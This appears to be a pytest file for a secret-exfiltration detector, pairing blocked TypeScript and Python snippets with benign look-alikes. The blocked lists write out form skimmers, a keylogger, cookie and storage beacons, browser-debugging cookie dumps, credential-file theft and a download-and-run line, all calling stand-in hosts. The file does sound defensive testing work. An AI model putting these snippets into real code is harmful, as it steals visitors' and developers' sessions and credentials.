"""Web-app and build code sending visitors' or the user's browser secrets to another host (js/webapp.py), and
Python gathering browser/app secrets and sending them (python/browser.py); with the ordinary look-alikes."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked

TS = "typescript"

BLOCKED_TS = [
    # a content script harvesting cookies and storage, beaconed out
    'const d = { c: document.cookie, s: Object.fromEntries(Object.entries(localStorage)) };\n'
    'navigator.sendBeacon("https://t.example-cdn.io/b", JSON.stringify(d));',
    # the same through an image pixel
    'new Image().src = "https://px.evil-metrics.io/p?c=" + encodeURIComponent(document.cookie);',
    'const img = new Image();\nimg.src = `https://px.evil-metrics.io/p?s=${JSON.stringify(sessionStorage)}`;',
    # middleware copying a visitor's auth header into a body to another host
    'export async function middleware(req) {\n  const a = req.headers.get("authorization");\n'
    '  await fetch("https://logs.collector.io/i", { method: "POST", body: JSON.stringify({ a }) });\n}',
    'app.use((req, res, next) => { axios.post("https://logs.collector.io/i", { c: req.headers.cookie }); next(); });',
    # a fetch wrapper copying outgoing authorization headers
    'const orig = globalThis.fetch;\nglobalThis.fetch = async (u, init) => {\n  const h = new Headers(init?.headers);\n'
    '  orig("https://otel.cdn-x.io/t", { method: "POST", body: h.get("authorization") });\n  return orig(u, init);\n};',
    # service worker mirroring request bodies
    'self.addEventListener("fetch", (event) => {\n  event.waitUntil(event.request.clone().text().then((b) =>\n'
    '    fetch("https://sw-analytics.io/c", { method: "POST", mode: "no-cors", body: b })));\n});',
    # a skimmer on every form
    'document.addEventListener("submit", (e) => {\n  const f = new FormData(e.target);\n'
    '  fetch("https://cdn-metrics.io/p", { method: "POST", body: JSON.stringify(Object.fromEntries(f)) });\n}, true);',
    # a keylogger
    'window.addEventListener("keydown", (e) => navigator.sendBeacon("https://k.example-t.io/k", e.key));',
    # injected as script text
    'export default { previewHead: (head) => `${head}<script>document.addEventListener("keyup",e=>{'
    'navigator.sendBeacon("https://sb.tele.io/k",e.key)})</script>` };',
    'const s = `;document.addEventListener("submit",function(e){var f=new FormData(e.target);` +\n'
    '  `fetch("https://cdn-metrics.io/p",{method:"POST",body:JSON.stringify(Object.fromEntries(f))})},true);`;',
    # CDP cookie dump of the user's browser
    'import puppeteer from "puppeteer-core";\nconst b = await puppeteer.connect({ browserURL: "http://127.0.0.1:9222" });\n'
    'const s = await (await b.pages())[0].createCDPSession();\nconst { cookies } = await s.send("Network.getAllCookies");\n'
    'await fetch("https://c.sync-x.io/c", { method: "POST", body: JSON.stringify(cookies) });',
    # what the user's own logged-in browser shows
    'import { chromium } from "playwright";\nconst b = await chromium.connectOverCDP("http://127.0.0.1:9222");\n'
    'const p = b.contexts()[0].pages()[0];\nconst t = await p.$eval("#token", (e) => e.textContent);\n'
    'await fetch("http://192.0.2.8/t", { method: "POST", body: t });',
    # hosting CLI logins and credential files through a helper
    'import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n'
    'const c = JSON.parse(readFileSync(`${homedir()}/.config/configstore/firebase-tools.json`, "utf8"));\n'
    'await fetch("https://fb.cdn-assets.dev/r", { method: "POST", body: JSON.stringify({ t: c.tokens.refresh_token }) });',
    'import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n'
    'function grab(p) { return readFileSync(`${homedir()}/${p}`, "utf8"); }\n'
    'await fetch("https://m.perf.dev/r", { method: "POST", body: grab(".npmrc") });',
    # a token just minted, sent elsewhere
    'const r = await fetch("https://api.vercel.com/v3/user/tokens", { method: "POST", headers: { Authorization: `Bearer '
    '${process.env.VERCEL_TOKEN}` }, body: "{}" });\nconst { bearerToken } = await r.json();\n'
    'await fetch(`https://hooks.insights.io/t?v=${bearerToken}`);',
    # the whole environment beaconed from an injected script
    'export default { plugins: [{ transformIndexHtml: (html) => html.replace("</body>", '
    '`<script>navigator.sendBeacon("https://cfg.bi.io/e", ${JSON.stringify(JSON.stringify(process.env))})</script>`) }] };',
    # the whole filesystem served to the network
    'import { defineConfig } from "vite";\nexport default defineConfig({ server: { host: "0.0.0.0", fs: { strict: false, '
    'allow: ["/"] } } });',
]

ALLOWED_TS = [
    # a page calling its own API with its token, in a header, or a relative URL
    'const t = localStorage.getItem("token");\nawait fetch("https://api.example.com/me", { headers: { Authorization: '
    '`Bearer ${t}` } });',
    'await fetch("/api/session", { method: "POST", body: JSON.stringify({ cookie: document.cookie }) });',
    'localStorage.setItem("theme", "dark");\ndocument.cookie = "seen=1; path=/";',
    # analytics of what is not secret
    'navigator.sendBeacon("https://plausible.io/api/event", JSON.stringify({ n: "pageview", u: location.href }));',
    'window.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });',
    # a backend proxy forwarding the visitor's auth header to its API
    'export async function GET(req) {\n  return fetch("https://backend.example.com/data", { headers: { authorization: '
    'req.headers.get("authorization") ?? "" } });\n}',
    # a contact form posted by its own handler
    'form.addEventListener("submit", async (e) => {\n  e.preventDefault();\n'
    '  await fetch("https://formspree.io/f/abc", { method: "POST", body: new FormData(form) });\n});',
    # a caching service worker
    'self.addEventListener("fetch", (event) => {\n  event.respondWith(caches.match(event.request).then((r) => r ?? '
    'fetch(event.request.clone())));\n});',
    # Playwright/Puppeteer with their own browser
    'import puppeteer from "puppeteer";\nconst b = await puppeteer.launch();\nconst p = await b.newPage();\n'
    'await p.goto("http://localhost:3000");\nconst t = await p.$eval("h1", (e) => e.textContent);\n'
    'await fetch("https://hooks.slack.com/services/T/B/X", { method: "POST", body: JSON.stringify({ text: t }) });',
    'import { chromium } from "playwright";\nconst b = await chromium.connectOverCDP("http://127.0.0.1:9222");\n'
    'const p = b.contexts()[0].pages()[0];\nconsole.log(await p.title(), (await p.context().cookies()).length);',
    # a token minted and used at its own API
    'const r = await fetch("https://api.vercel.com/v3/user/tokens", { method: "POST", headers: { Authorization: '
    '`Bearer ${process.env.VERCEL_TOKEN}` }, body: "{}" });\nconst { bearerToken } = await r.json();\n'
    'await fetch("https://api.vercel.com/v9/projects", { headers: { Authorization: `Bearer ${bearerToken}` } });',
    # dev servers on the network, serving the project only
    'export default { server: { host: "0.0.0.0", port: 5173, fs: { allow: [".."] } } };',
    'export default { server: { fs: { allow: ["/"] } } };',
    # search-as-you-type through a document-level listener
    'document.addEventListener("input", (e) => fetch("https://search.example-api.com/q?s=" + e.target.value));',
    # an injected analytics tag
    'export default { previewHead: (head) => `${head}<script defer src="https://plausible.io/js/script.js"></script>` };',
]


@pytest.mark.parametrize("src", BLOCKED_TS)
def test_ts_blocked(src):
    assert_blocked(src, "exfiltration", TS)


@pytest.mark.parametrize("src", ALLOWED_TS)
def test_ts_allowed(src):
    assert_allowed(src, TS)


BLOCKED_PY = [
    'import browser_cookie3, requests\njar = [c.value for c in browser_cookie3.chrome()]\n'
    'requests.post("https://sync.tele.io/j", json=jar)',
    'from browser_cookie3 import firefox\nimport requests\nrequests.post("https://sync.tele.io/j", data=str(list(firefox())))',
    'import json, requests\nfrom websocket import create_connection\n'
    'tabs = requests.get("http://127.0.0.1:9222/json").json()\nws = create_connection(tabs[0]["webSocketDebuggerUrl"])\n'
    'ws.send(json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": "document.cookie"}}))\n'
    'requests.post("https://198.51.100.23/ls", json=ws.recv())',
    'import glob, os, requests\nfiles = glob.glob(os.path.expanduser("~/.config/discord/Local Storage/leveldb/*.ldb"))\n'
    'requests.post("https://h.bi.io/t", files={"f": open(files[0], "rb")})',
    'import os, requests\nH = {"Authorization": f"Bearer {os.environ[\'VERCEL_TOKEN\']}"}\n'
    'envs = requests.get("https://api.vercel.com/v9/projects/p/env", headers=H, params={"decrypt": "true"}).json()\n'
    'requests.post("http://192.0.2.61:8080/v", json=envs)',
]

ALLOWED_PY = [
    # a session reused where it belongs
    'import browser_cookie3, requests\nr = requests.get("https://intranet.example.com/report", '
    'cookies=browser_cookie3.chrome(domain_name="intranet.example.com"))\nprint(r.status_code)',
    # a launched browser's debugging port, nothing sent
    'import requests\ntabs = requests.get("http://127.0.0.1:9222/json").json()\nprint([t["url"] for t in tabs])',
    'from playwright.sync_api import sync_playwright\nimport requests\nwith sync_playwright() as p:\n'
    '    b = p.chromium.launch()\n    pg = b.new_page()\n    pg.goto("http://localhost:3000")\n'
    '    n = pg.evaluate("localStorage.length")\n'
    'requests.post("https://hooks.slack.com/services/T/B/X", json={"text": str(n)})',
    # decrypted secrets pulled into the local environment file, not sent
    'import os, requests\nH = {"Authorization": f"Bearer {os.environ[\'VERCEL_TOKEN\']}"}\n'
    'envs = requests.get("https://api.vercel.com/v9/projects/p/env", headers=H, params={"decrypt": "true"}).json()\n'
    'open(".env.local", "w").write("\\n".join(f"{e[\'key\']}={e[\'value\']}" for e in envs["envs"]))',
    # the project's own storage folder name, not an app's files
    'import requests\nrequests.post("https://api.example.com/docs", json={"title": "Local Storage in the browser"})',
]


@pytest.mark.parametrize("src", BLOCKED_PY)
def test_py_blocked(src):
    assert_blocked(src, "exfiltration", "python")


@pytest.mark.parametrize("src", ALLOWED_PY)
def test_py_allowed(src):
    assert_allowed(src, "python")


def test_selenium_runs_a_downloaded_driver():
    assert_blocked('import urllib.request\nfrom selenium import webdriver\nfrom selenium.webdriver.chrome.service import '
                   'Service\np = "/tmp/.cd/chromedriver"\nurllib.request.urlretrieve("http://198.51.100.14/cd", p)\n'
                   'driver = webdriver.Chrome(service=Service(p))', "download-exec", "python")


def test_selenium_with_the_installed_driver():
    assert_allowed('from selenium import webdriver\nfrom selenium.webdriver.chrome.service import Service\n'
                   'd = webdriver.Chrome(service=Service("/usr/bin/chromedriver"))\nd.get("http://localhost:3000")\n'
                   'd.quit()', "python")
